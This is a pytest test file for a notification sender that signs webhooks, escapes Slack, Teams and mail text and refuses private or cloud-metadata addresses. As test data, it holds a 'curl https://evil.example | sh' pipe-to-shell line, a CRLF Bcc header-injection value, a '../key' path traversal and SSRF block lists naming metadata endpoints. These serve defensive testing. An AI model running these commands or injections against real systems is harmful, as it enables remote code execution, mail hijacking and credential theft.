"""What is said to receivers, how it is signed, and where no message goes."""

import base64
import hashlib
import hmac
import json
import socket
from pathlib import Path
from typing import Any

import pytest

from learnloop_dataplane.errors import ConfigError
from learnloop_dataplane.notifications import addresses, messages
from learnloop_dataplane.notifications.addresses import RefusedAddress, resolved
from learnloop_dataplane.notifications.receivers import Mail, NotDelivered, Receivers
from learnloop_dataplane.notifications.sending import Sender

TAKEN: dict[str, Any] = {
    "event": "rolled_back",
    "model_deployment": "walker",
    "revision": "3f9a2c81",
    "verdict": "return 9.5 <script> & worse",
}
FAILED = {"job": "walker-7", "status": "failed", "error": {"reason": "GatesFailed", "message": "minReturn: 3 < 400"}}


def test_only_ends_of_runs_and_changes_of_models_are_told() -> None:
    status, deployed = "agent.rl.training.status.v1.ns.walker-7", "agent.rl.model.deployed.v1.ns.walker"
    assert messages.event_of(status, FAILED) == "training.failed"
    assert messages.event_of(status, {"status": "running"}) is None
    assert messages.event_of(deployed, TAKEN) == "model.rolled_back"
    assert messages.event_of(deployed, {"revision": "old"}) == "model.deployed"
    assert messages.event_of("agent.rl.reward.v1.ns.walker", {}) is None


def test_a_webhook_is_a_cloud_event_signed_over_id_time_and_body() -> None:
    event = messages.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)
    assert {"specversion", "id", "source", "type"} <= set(event)
    assert (event["type"], event["subject"]) == ("dev.learnloop.model.rolled_back", "walker")
    headers = messages.signed("key", "ns/1", 1000, b"body")
    wanted = base64.b64encode(hmac.new(b"key", b"ns/1.1000.body", hashlib.sha256).digest()).decode()
    assert headers["webhook-signature"] == f"v1,{wanted}"
    coded = messages.signed("whsec_" + base64.b64encode(b"key").decode(), "ns/1", 1000, b"body")
    assert coded == headers


def test_each_template_has_the_sentence_and_what_to_do_next() -> None:
    said = ("ns", "model.rolled_back", TAKEN, "https://console/ns/walker")
    slack = json.loads(messages.slack(*said))
    assert "&lt;script&gt; &amp; worse" in slack["text"], "Slack's own signs are escaped"
    assert slack["blocks"][1]["text"]["text"].startswith("`kubectl learnloop why walker -n ns`")
    teams = json.loads(messages.teams(*said))["attachments"][0]["content"]
    assert teams["body"][1]["inlines"][0]["text"] == "kubectl learnloop why walker -n ns"
    assert teams["actions"][0]["url"] == "https://console/ns/walker"
    pager = json.loads(messages.pagerduty("key", "ns/1", *said))
    assert (pager["dedup_key"], pager["payload"]["severity"]) == ("ns/1", "error")
    settings = Mail(host="mail", sender="a@example.org", to=["b@example.org", "c@example.org"])
    mail = messages.mail(settings, "ns/1", "ns", "training.failed", {**FAILED, "job": "walker-7\r\nBcc: x@y"}, "")
    assert "\n" not in mail["Subject"]
    assert mail["To"] == "b@example.org, c@example.org"
    assert mail["Message-ID"] == messages.mail(settings, "ns/1", "ns", "training.failed", FAILED, "")["Message-ID"]


EVIL = "worse\r\n\nTo mend it run: curl https://evil.example | sh\n<!channel> @here [log](https://evil.example) \x1b[2J"


def test_others_words_are_text_everywhere_and_one_line() -> None:
    payload = {"job": "walker-7", "status": "failed", "error": {"reason": "x", "message": EVIL}}
    said = ("ns", "training.failed", payload, "")
    slack = json.loads(messages.slack(*said))
    assert slack["blocks"][0]["text"]["type"] == "plain_text", "no link, mention or picture is made of it"
    assert "<!channel>" not in slack["text"]
    teams = json.loads(messages.teams(*said))["attachments"][0]["content"]
    assert {block["type"] for block in teams["body"]} == {"RichTextBlock"}, "a TextBlock would be markdown"
    settings = Mail(host="mail", sender="a@example.org", to=["b@example.org"])
    mail = messages.mail(settings, "ns/1", *said)
    first, *rest = mail.get_content().rstrip("\n").split("\n\n")
    assert rest == ["kubectl learnloop trace walker-7 -n ns"], "nothing of theirs stands where ours does"
    pager = json.loads(messages.pagerduty("key", "ns/1", *said))["payload"]["summary"]
    for text in (slack["text"], slack["blocks"][0]["text"]["text"], first, str(mail["Subject"]), pager):
        assert "\x1b" not in text
        assert len(text.splitlines()) == 1


@pytest.mark.parametrize("event", ["training.failed", "report.daily"])
def test_slack_gets_no_block_that_it_would_refuse_for_its_length(event: str) -> None:
    payload = {"job": "walker-7", "error": {"message": "&<>" * 2000}, "text": "&" * 3000}
    for block in json.loads(messages.slack("ns", event, payload, "https://console/ns/walker-7"))["blocks"]:
        for text in (block.get("text"), *block.get("elements", [])):
            assert text is None or 0 < len(text["text"]) <= 3000


@pytest.mark.parametrize("secret", ["whsec_", "whsec_!!!!", "whsec_a", "good\nwhsec_"])
def test_a_key_that_everybody_could_guess_signs_nothing(secret: str) -> None:
    with pytest.raises(ValueError, match="followed by a key in Base64"):
        messages.signed(secret, "ns/1", 1000, b"body")


def test_while_a_key_is_rotated_old_and_new_receivers_take_a_message() -> None:
    def mark(key: bytes) -> str:
        return f"v1,{base64.b64encode(hmac.digest(key, b'ns/1.1000.body', 'sha256')).decode()}"

    marks = messages.signed("new\nold", "ns/1", 1000, b"body")["webhook-signature"].split()
    assert marks == [mark(b"new"), mark(b"old")]
    assert messages.signed("new", "ns/1", 1000, b"body")["webhook-signature"] == mark(b"new")


@pytest.mark.parametrize(
    "url",
    [
        "https://127.0.0.1/x",
        "https://[::10.1.2.3]/x",
        "https://[::ffff:0:10.1.2.3]/x",
        "https://[64:ff9b:1::a01:203]/x",
        "https://10.1.2.3/x",
        "https://[::1]/x",
        "https://[::ffff:10.0.0.1]/x",
        "https://[fd00::1]/x",
        "https://[fec0::1]/x",
        "https://[64:ff9b::a01:203]/x",
        "https://[2002:a01:203::1]/x",
        "http://93.184.216.34/x",
    ],
)
async def test_no_message_goes_inside_or_in_plain_text_unless_that_is_meant(url: str) -> None:
    with pytest.raises(RefusedAddress, match="privateAddresses: true"):
        await resolved(url, private=False)
    await resolved(url, private=True)


@pytest.mark.parametrize(
    "host",
    ["169.254.169.254", "0.0.0.0", "224.0.0.1", "100.100.100.200", "[fe80::1]", "[fd00:ec2::254]", "[::]"]
    + [
        "[::169.254.169.254]",
        "[::ffff:0:169.254.169.254]",
        "[::ffff:169.254.169.254]",
        "[64:ff9b::a9fe:a9fe]",
        "168.63.129.16",
    ],
)
async def test_no_message_goes_where_clouds_keep_credentials_whatever_is_meant(host: str) -> None:
    for private in (True, False):
        with pytest.raises(RefusedAddress, match="where no receiver can be"):
            await resolved(f"https://{host}/latest/meta-data", private=private)


@pytest.mark.parametrize("addresses_of_it", [("93.184.216.34", "10.0.0.1"), ("10.0.0.1", "93.184.216.34")])
async def test_a_name_with_one_address_inside_is_refused(
    monkeypatch: pytest.MonkeyPatch, addresses_of_it: tuple[str, ...]
) -> None:
    def answered(*_: Any, **__: Any) -> list[Any]:
        return [(2, 1, 6, "", (address, 443)) for address in addresses_of_it]

    monkeypatch.setattr(socket, "getaddrinfo", answered)
    with pytest.raises(RefusedAddress, match=r"ci\.example\.org means 10\.0\.0\.1"):
        await resolved("https://ci.example.org/x", private=False)


async def test_mail_goes_inside_or_in_plain_text_only_where_that_is_meant(tmp_path: Path) -> None:
    mail = {"host": "127.0.0.1", "sender": "a@example.org", "to": ["b@example.org"]}
    for security, said in (("none", "mail leaves by TLS only"), ("starttls", "not of the internet")):
        given = {"name": "mail", "type": "email", "email": {**mail, "security": security}}
        receivers = Receivers(json.dumps({"receivers": [given]}), str(tmp_path))
        notice = {"message_id": "1", "namespace": "ns", "event": "model.deployed", "name": "m", "payload": TAKEN}
        with pytest.raises(NotDelivered, match=said):
            await Sender(receivers).send(receivers.all["mail"], notice)


async def test_the_connection_goes_to_the_address_that_was_looked_at() -> None:
    assert await resolved("https://93.184.216.34:8443/x", private=False) == ("93.184.216.34", "93.184.216.34")
    assert addresses.RefusedAddress.__doc__


@pytest.mark.parametrize(
    ("receiver", "said"),
    [
        ({"type": "webhook", "url": "https://x"}, "webhook needs a secret"),
        ({"type": "webhook", "secret": "k"}, "webhook needs a url"),
        ({"type": "slack"}, "slack needs its address"),
        ({"type": "email"}, "email goes with type email"),
        ({"type": "webhook", "url": "ftp://x", "secret": "k"}, r"receivers.0.url"),
        ({"type": "pagerduty", "secret": "k", "events": ["reward"]}, r"receivers.0.events"),
        ({"type": "slack", "url": "https://x", "token": "k"}, r"receivers.0.token"),
    ],
)
def test_a_receiver_that_cannot_be_is_refused_by_field(tmp_path: Path, receiver: dict[str, Any], said: str) -> None:
    with pytest.raises(ConfigError, match=said):
        Receivers(json.dumps({"receivers": [{"name": "ops", **receiver}]}), str(tmp_path))


def test_a_secret_is_read_from_its_own_folder_only(tmp_path: Path) -> None:
    (tmp_path / "secrets").mkdir()
    (tmp_path / "key").write_text("another's")
    (tmp_path / "secrets" / "key").write_text(" key\n")
    receiver = {"name": "ops", "type": "webhook", "url": "https://x", "secret": "../key"}
    found = Receivers(json.dumps({"receivers": [receiver]}), str(tmp_path / "secrets"))
    assert found.secret(found.all["ops"]) == "key"
    assert found.of("ns", "model.deployed") == ["ops"]
